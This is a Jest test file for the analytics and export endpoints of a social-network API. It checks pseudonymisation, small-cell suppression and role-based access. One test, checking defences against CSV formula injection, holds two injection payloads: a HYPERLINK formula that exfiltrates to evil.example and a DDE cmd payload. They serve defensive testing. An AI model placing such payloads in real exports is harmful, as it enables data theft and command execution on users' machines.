/**
 * Analytics (ego report, community × sector reach, brokers) by role — pseudonyms and small-cell suppression for
 * analysts, the caseload for coaches — and graph exports (JSON, CSV safe against formula injection, GEXF).
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { BridgeworkGraph, analyzeDomain, egoReport, generateDemoTown, nodeFacts, readCsv, type GraphData } from '@bridgework/graph-core';
import { largestCaseload } from '@bridgework/graph-core/testing';
import { issueKey } from './auth/keys.js';
import { MIN_GROUP } from './routes/analytics.js';
import { startTestServer, type TestServer } from './testing/harness.js';

let t: TestServer;
let town: GraphData;
const clock = new Date('2026-11-02T09:00:00Z');
let coachId: string;
let coachKey: string;
let member: string;

beforeAll(async () => {
  t = await startTestServer({ seed: false, server: { now: () => clock } });
  town = generateDemoTown({ seed: 42 });
  await t.server.store.graph.applyBatch(town);
  const largest = largestCaseload(town);
  coachId = largest.coachId;
  member = largest.members[0]!;
  coachKey = (await issueKey(t.server.store.api, { role: 'coach', coachId }, () => new Date())).key;
});
afterAll(async () => {
  await t.stop();
});

const PSEUDONYM = /^x[0-9a-f]{20}$/;

describe('analytics for analysts', () => {
  it('shows the reach table with no group under five, by count or by subtraction', async () => {
    const r = await t.call('GET', '/v1/analytics/reach', { key: 'analyst' });
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ scope: 'everyone', minimumGroupSize: MIN_GROUP });
    expect(r.body.sectors.length).toBeGreaterThan(3);
    expect(r.body.rows.length).toBeGreaterThan(0);
    let shown = 0;
    for (const row of r.body.rows) {
      expect(row.people).toBeGreaterThanOrEqual(MIN_GROUP);
      for (const n of Object.values(row.reach) as (number | null)[]) {
        if (n === null) continue;
        shown++;
        expect(n === 0 || n >= MIN_GROUP).toBe(true);
        expect(row.people - n === 0 || row.people - n >= MIN_GROUP).toBe(true);
      }
    }
    expect(shown).toBeGreaterThan(0);
    // The admin's table is the whole truth; the analyst's is it with the small cells taken out.
    const full = await t.call('GET', '/v1/analytics/reach');
    expect(full.body.minimumGroupSize).toBeNull();
    const hidden = full.body.rows.filter((row: { people: number }) => row.people < MIN_GROUP).length;
    expect(r.body.suppressedGroups).toBe(hidden);
    expect(r.body.suppressedCells).toBeGreaterThan(0);
    for (const s of town.people.slice(0, 50)) expect(r.text).not.toContain(`"${s.id}"`);
  });

  it('names brokers and ego reports only by the pseudonyms of the pseudonymised graph', async () => {
    const graph = await t.call('GET', '/v1/analytics/graph', { key: 'analyst' });
    const pseudonyms = new Set(graph.body.people.map((p: { id: string }) => p.id));
    const b = await t.call('GET', '/v1/analytics/brokers?limit=5', { key: 'analyst' });
    expect(b.status).toBe(200);
    expect(b.body.brokers.length).toBe(5);
    for (const x of b.body.brokers) {
      expect(x.id).toMatch(PSEUDONYM);
      expect(pseudonyms.has(x.id)).toBe(true);
      expect(x.name).toBeNull();
    }
    const betweenness = b.body.brokers.map((x: { betweenness: number }) => x.betweenness);
    expect(betweenness).toEqual([...betweenness].sort((p, q) => q - p));
    const ego = await t.call('GET', `/v1/analytics/people/${b.body.brokers[0].id}/ego`, { key: 'analyst' });
    expect(ego.status).toBe(200);
    expect(ego.body.id).toBe(b.body.brokers[0].id);
    expect(ego.body.size).toBeGreaterThan(0);
    // A real id is no way in for an analyst.
    expect((await t.call('GET', `/v1/analytics/people/${member}/ego`, { key: 'analyst' })).status).toBe(404);
    for (const p of town.people) expect(b.text + ego.text).not.toContain(p.name);
  });

  it('gives admin the ego report graph-core computes for the same graph and day', async () => {
    const now = new Date('2026-11-02T00:00:00Z');
    const domain = BridgeworkGraph.from(town);
    const a = analyzeDomain(domain, { now, weighted: true, seed: 42 });
    const g = a.measures.graph;
    const expected = egoReport(g, g.indexOf(member), {
      facts: nodeFacts(domain, g),
      communities: a.measures.partition.communities,
      constraint: a.measures.holes.constraint,
      effectiveSize: a.measures.holes.effectiveSize,
    });
    const r = await t.call('GET', `/v1/analytics/people/${member}/ego`);
    expect(r.status).toBe(200);
    expect(r.body).toEqual({ ...expected, now: now.toISOString() });
    const brokers = await t.call('GET', '/v1/analytics/brokers');
    expect(brokers.body.brokers.map((x: { id: string }) => x.id)).toEqual(a.json.brokers!.slice(0, 25).map((x) => x.id));
  });
});

describe('analytics for coaches', () => {
  it('gives a coach ego reports and the reach table of their own caseload, and the brokers they may see', async () => {
    expect((await t.call('GET', `/v1/analytics/people/${member}/ego`, { key: coachKey })).status).toBe(200);
    const other = town.people.find((p) => p.roles.includes('member') && p.coachId !== null && p.coachId !== coachId)!;
    expect((await t.call('GET', `/v1/analytics/people/${other.id}/ego`, { key: coachKey })).status).toBe(404);
    const contact = town.people.find((p) => !p.roles.includes('member') && p.consent.introductions && p.id !== coachId)!;
    expect((await t.call('GET', `/v1/analytics/people/${contact.id}/ego`, { key: coachKey })).status).toBe(403);

    const reach = await t.call('GET', '/v1/analytics/reach', { key: coachKey });
    expect(reach.body.scope).toBe('caseload');
    const own = town.people.filter((p) => p.coachId === coachId && p.roles.includes('member')).length;
    expect(reach.body.rows.reduce((n: number, r: { people: number }) => n + r.people, 0)).toBe(own);

    const brokers = await t.call('GET', '/v1/analytics/brokers?limit=100', { key: coachKey });
    expect(brokers.status).toBe(200);
    for (const b of brokers.body.brokers) expect([b.id, (await t.call('GET', `/v1/people/${encodeURIComponent(b.id)}`, { key: coachKey })).status]).toEqual([b.id, 200]);
    expect((await t.call('GET', '/v1/analytics/summary', { key: coachKey })).status).toBe(403);
  });
});

describe('exports', () => {
  it('exports the whole graph as JSON, CSV and GEXF to admin, audited', async () => {
    const json = await t.call('GET', '/v1/export?format=json');
    expect(json.status).toBe(200);
    expect(json.headers.get('content-type')).toMatch(/^application\/json/);
    expect(json.headers.get('content-disposition')).toBe('attachment; filename="bridgework.json"');
    expect(json.body.people).toHaveLength(town.people.length);
    expect(json.body.ties).toHaveLength(town.ties.length);
    const gexf = await t.call('GET', '/v1/export?format=gexf');
    expect(gexf.headers.get('content-type')).toMatch(/^application\/gexf\+xml/);
    expect(gexf.text).toContain('<gexf xmlns="http://gexf.net/1.3"');
    expect(gexf.text.match(/<node /g)).toHaveLength(town.people.length + town.organisations.length + town.events.length);
    const csv = await t.call('GET', '/v1/export?format=csv&file=ties');
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(readCsv(csv.text).rows).toHaveLength(town.ties.length + 1);
    const missing = await t.call('GET', '/v1/export?format=csv');
    expect(missing.status).toBe(422);
    expect(missing.body.errors[0].pointer).toBe('/query/file');
    const audit = await t.call('GET', '/v1/audit?action=export&resource=graph');
    expect(audit.body.items.length).toBe(3);
  });

  it('protects CSV cells against formula injection', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    expect((await t.call('POST', '/v1/organisations', { body: { id: 'o-evil', name: evil, sector: 'C' } })).status).toBe(201);
    expect((await t.call('POST', '/v1/people', { body: { id: 'p-evil', name: '@SUM(1+1)*cmd|" /C calc"!A0', roles: ['member'] } })).status).toBe(201);
    const orgs = await t.call('GET', '/v1/export?format=csv&file=organisations');
    const row = readCsv(orgs.text).rows.find((r) => r.cells[0] === 'o-evil')!;
    expect(row.cells[1]).toBe(`'${evil}`);
    const people = await t.call('GET', '/v1/export?format=csv&file=people');
    const cells = readCsv(people.text).rows.flatMap((r) => r.cells);
    expect(cells).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    expect(readCsv(people.text, { unprotectFormulas: true }).rows.flatMap((r) => r.cells)).toContain('@SUM(1+1)*cmd|" /C calc"!A0');
  });

  it('gives analysts the pseudonymised graph only, and nobody else the graph', async () => {
    const r = await t.call('GET', '/v1/export?format=json', { key: 'analyst' });
    expect(r.status).toBe(200);
    expect(r.headers.get('content-disposition')).toBe('attachment; filename="bridgework-pseudonymised.json"');
    expect(r.body.events).toEqual([]);
    for (const p of r.body.people) {
      expect(p.id).toMatch(PSEUDONYM);
      expect(p).toMatchObject({ name: p.id, skills: [], area: null, coachId: null, consent: { introductions: false } });
    }
    for (const p of town.people.slice(0, 100)) {
      expect(r.text).not.toContain(`"${p.id}"`);
      expect(r.text).not.toContain(p.name);
    }
    const graph = await t.call('GET', '/v1/analytics/graph', { key: 'analyst' });
    expect(r.body.people.map((p: { id: string }) => p.id)).toEqual(graph.body.people.map((p: { id: string }) => p.id));
    const gexf = await t.call('GET', '/v1/export?format=gexf', { key: 'analyst' });
    expect(gexf.status).toBe(200);
    for (const p of town.people.slice(0, 100)) expect(gexf.text).not.toContain(p.name);
    expect((await t.call('GET', '/v1/export', { key: coachKey })).status).toBe(403);
    expect((await t.call('GET', '/v1/export', { key: 'service' })).status).toBe(403);
    const all = await t.call('POST', '/v1/keys', { body: { role: 'service', scopes: ['people:read', 'analytics:read'] } });
    expect((await t.call('GET', '/v1/export', { key: all.body.key })).status).toBe(403);
  });
});
